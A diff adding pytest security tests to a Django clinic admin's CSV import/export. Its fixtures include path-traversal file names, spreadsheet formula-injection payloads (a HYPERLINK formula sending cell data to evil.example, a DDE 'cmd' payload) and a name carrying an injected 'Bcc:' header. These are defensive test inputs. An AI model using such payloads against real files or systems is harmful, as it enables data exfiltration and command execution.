@@ -4,6 +4,12 @@ Alice manages Alpha; Bravo is someone else's clinic. Every import shows a
 dry-run preview first and saves nothing until it is confirmed.
 """
 
+import csv
+import io
+import os
+import tempfile
+import time
+
 import pytest
 from django.contrib.admin.models import LogEntry
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -277,3 +283,153 @@ def test_it_lets_the_operator_import_for_any_clinic(client, bravo_yonge):
     confirm(client, "therapist", preview(client, "therapist", csv))
 
     assert list(Therapist.objects.get(slug="nora-newcomer").locations.all()) == [bravo_yonge]
+
+
+# The uploaded file between preview and confirmation.
+
+
+@pytest.fixture(autouse=True)
+def upload_dir(settings, tmp_path):
+    settings.IMPORT_UPLOAD_DIR = tmp_path / "uploads"
+    return settings.IMPORT_UPLOAD_DIR
+
+
+def good_therapist_csv(location) -> str:
+    return THERAPIST_HEADER + f"nora-newcomer,Nora,Newcomer,massage,en,,{location.pk},1,1,\n"
+
+
+def test_it_keeps_an_upload_in_its_own_folder_and_removes_it_once_imported(
+    client, alice, alpha_main, upload_dir
+):
+    previewed = preview(client, "therapist", good_therapist_csv(alpha_main))
+
+    assert len(list(upload_dir.iterdir())) == 1
+    confirm(client, "therapist", previewed)
+    assert list(upload_dir.iterdir()) == []
+    assert Therapist.objects.filter(slug="nora-newcomer").exists()
+
+
+@pytest.mark.parametrize(
+    "name", ["victim.csv", "../victim.csv", "/tmp/victim.csv", "0123456789abcdef0123456789abcdef"]
+)
+def test_it_never_reads_or_deletes_a_file_the_browser_names(
+    client, alice, alpha_main, tmp_path, monkeypatch, name
+):
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # the server's temp folder
+    victim = tmp_path / "victim.csv"
+    victim.write_text(good_therapist_csv(alpha_main))
+    previewed = preview(client, "therapist", good_therapist_csv(alpha_main))
+    data = {**previewed.context["confirm_form"].initial, "import_file_name": name}
+
+    response = client.post(reverse("admin:therapists_therapist_process_import"), data, follow=True)
+
+    assert response.status_code == 200
+    assert "Upload the file again" in response.content.decode()
+    assert victim.exists()
+    assert not Therapist.objects.filter(slug="nora-newcomer").exists()
+
+
+def test_it_does_not_let_one_manager_confirm_anothers_upload(client, alice, alpha, alpha_main):
+    previewed = preview(client, "therapist", good_therapist_csv(alpha_main))
+    client.force_login(make_manager("amir", alpha))
+
+    response = confirm(client, "therapist", previewed)
+
+    assert response.status_code == 302
+    assert not Therapist.objects.filter(slug="nora-newcomer").exists()
+
+
+def test_it_explains_an_upload_that_is_gone(client, alice, alpha_main, upload_dir):
+    previewed = preview(client, "therapist", good_therapist_csv(alpha_main))
+    for path in upload_dir.iterdir():
+        path.unlink()
+
+    response = client.post(
+        reverse("admin:therapists_therapist_process_import"),
+        previewed.context["confirm_form"].initial,
+        follow=True,
+    )
+
+    assert response.status_code == 200
+    assert "expired or was already imported" in response.content.decode()
+
+
+@pytest.mark.parametrize("value", ["7", "-1", "x", "", "²"])
+def test_it_explains_an_unknown_format(client, alice, alpha_main, value):
+    previewed = preview(client, "therapist", good_therapist_csv(alpha_main))
+    data = {**previewed.context["confirm_form"].initial, "format": value}
+
+    response = client.post(reverse("admin:therapists_therapist_process_import"), data, follow=True)
+
+    assert response.status_code == 200
+    assert not Therapist.objects.filter(slug="nora-newcomer").exists()
+
+
+def test_it_removes_uploads_nobody_confirmed(client, alice, alpha_main, upload_dir):
+    upload_dir.mkdir()
+    abandoned = upload_dir / ("a" * 32)
+    abandoned.write_text("slug\n")
+    os.utime(abandoned, (time.time() - 3 * 3600,) * 2)
+
+    preview(client, "therapist", good_therapist_csv(alpha_main))
+
+    assert not abandoned.exists()
+    assert len(list(upload_dir.iterdir())) == 1
+
+
+# Exports opened in a spreadsheet.
+
+
+def export_csv(client, model: str = "therapist") -> str:
+    columns = client.get(reverse(f"admin:therapists_{model}_export")).context["form"].fields
+    return client.post(
+        reverse(f"admin:therapists_{model}_export"),
+        {"format": "0", "resource": "0", **{name: "on" for name in columns if name.startswith(model)}},
+    ).content.decode()
+
+
+@pytest.mark.parametrize(
+    "bio",
+    [
+        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+        "\tx",
+        "\rx",
+    ],
+)
+def test_it_exports_text_that_no_spreadsheet_runs_as_a_formula(client, alice, alpha_main, bio):
+    make_therapist(slug="sam-sharedford", locations=[alpha_main], bio=bio)
+
+    exported = export_csv(client)
+
+    assert csv.DictReader(io.StringIO(exported, newline="")).__next__()["bio"] == "'" + bio
+
+
+def test_it_exports_numbers_as_numbers(client, alice, alpha):
+    make_location(alpha, name="West", at=(49.9, -97.2))
+
+    exported = export_csv(client, "location")
+
+    assert ",-97.2," in exported
+
+
+def test_it_round_trips_a_bio_that_looks_like_a_formula(client, alice, alpha_main):
+    make_therapist(slug="ann-alphason", locations=[alpha_main], languages=[], bio="=1+1 is two")
+
+    response = preview(client, "therapist", export_csv(client))
+
+    assert [row.import_type for row in response.context["result"].rows] == ["skip"]
+
+
+def test_it_refuses_an_imported_name_with_a_line_break(client, alice, alpha_main):
+    csv = (
+        THERAPIST_HEADER
+        + f'nora-newcomer,"Nora\nBcc: x@evil.example",Newcomer,massage,en,,{alpha_main.pk},1,1,\n'
+    )
+
+    response = preview(client, "therapist", csv)
+
+    assert "first_name" in row_errors(response)[1]
+    assert not Therapist.objects.exists()
